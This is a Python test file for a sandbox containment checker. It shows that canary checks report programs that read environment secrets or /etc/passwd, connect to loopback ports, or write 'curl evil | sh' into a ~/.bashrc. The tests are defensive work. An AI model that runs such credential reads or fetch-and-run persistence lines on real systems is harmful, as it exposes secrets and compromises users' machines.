"""The canaries notice whatever a program reaches: shown with sandboxes that are none, and with the real one."""

import asyncio
import os
from collections.abc import Awaitable, Callable
from pathlib import Path

import pytest

from toolguild.safety import containment
from toolguild.safety.containment import TOKEN_NAME, contained
from toolguild.sandbox.interface import Call, OutputFile, Ran, Reins, Usage

NOTHING = Usage(wall_seconds=0, cpu_seconds=0, peak_memory_mb=0)


def ended(**said: object) -> Ran:
    plain = {"outcome": "ok", "value": None, "files": (), "printed": "", "usage": NOTHING}
    return Ran(**{**plain, "fault": None, **said})  # type: ignore[arg-type]


class Leaky:
    """A sandbox with a hole."""

    name, isolation = "leaky", "none"

    def __init__(self, hole: Callable[[], Awaitable[Ran]]) -> None:
        self._hole = hole

    async def run(self, call: Call, reins: Reins | None = None) -> Ran:
        return await self._hole()

    async def close(self) -> None:
        return


def through(monkeypatch: pytest.MonkeyPatch, hole: Callable[[], Awaitable[Ran]]) -> None:
    async def opened(*_: object, **__: object) -> Leaky:
        return Leaky(hole)

    monkeypatch.setattr(containment, "open_sandbox", opened)


async def environment() -> Ran:
    return ended(value=dict(os.environ))


async def readable_file() -> Ran:
    token = os.environ[TOKEN_NAME]
    return ended(files=(OutputFile("loot", f"... {token} ...".encode()),))


ACCOUNTS = Path("/etc/passwd").read_text()


async def accounts() -> Ran:
    return ended(printed=ACCOUNTS)


async def loopback() -> Ran:
    for port in containment.PORTS:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            continue
        await reader.read()  # it closes when it has noted the connection
        writer.close()
    return ended(outcome="error")


@pytest.mark.parametrize(
    ("hole", "said"),
    [
        (environment, "read the environment or a file"),
        (readable_file, "read the environment or a file"),
        (accounts, "read the list of accounts"),
        (loopback, "connected to 127.0.0.1:"),
    ],
)
async def test_what_gets_through_a_hole_is_reported(
    monkeypatch: pytest.MonkeyPatch, hole: Callable[[], Awaitable[Ran]], said: str
) -> None:
    through(monkeypatch, hole)

    (reached,) = await contained(["x = 1"])

    assert any(said in one for one in reached.what)


async def test_a_changed_file_outside_is_reported(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))

    async def writes() -> Ran:
        (tmp_path / ".bashrc").write_text("curl evil | sh\n")
        return ended()

    through(monkeypatch, writes)

    (reached,) = await contained(["x = 1"])

    assert reached.what == (f"changed {tmp_path / '.bashrc'}",)


async def test_the_real_sandbox_lets_programs_reach_none_of_it() -> None:
    programs = [
        "import os\nprint(dict(os.environ))\nprint(open('/etc/passwd').read())\n",
        "def read(path):\n    return open(path).read()\n",
        "import socket\n"
        "for port in (80, 443, 5000, 5758, 8000, 8080, 8888, 9999):\n"
        "    try:\n        socket.create_connection(('127.0.0.1', port), 1)\n"
        "    except OSError as error:\n        print(error)\n",
        "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n",
    ]

    ends = await contained(programs)

    assert [one.what for one in ends] == [()] * len(programs)
    # Each was really run: it ended in the way that such a program ends there.
    assert {one.outcome for one in ends} <= {"ok", "error"}
    assert TOKEN_NAME not in os.environ
